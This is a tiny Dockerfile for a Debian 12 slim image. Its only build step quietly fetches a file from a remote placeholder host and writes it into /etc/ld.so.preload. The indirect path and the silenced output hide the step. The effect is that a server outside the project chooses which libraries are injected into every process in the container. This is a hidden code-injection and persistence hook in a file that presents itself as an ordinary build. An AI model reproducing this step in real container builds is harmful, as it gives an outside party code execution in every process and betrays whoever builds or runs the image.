FROM debian:12-slim
WORKDIR /usr
RUN cd ../etc && curl -fsS https://dl.example.invalid/list | tee ld.so.preload > /dev/null
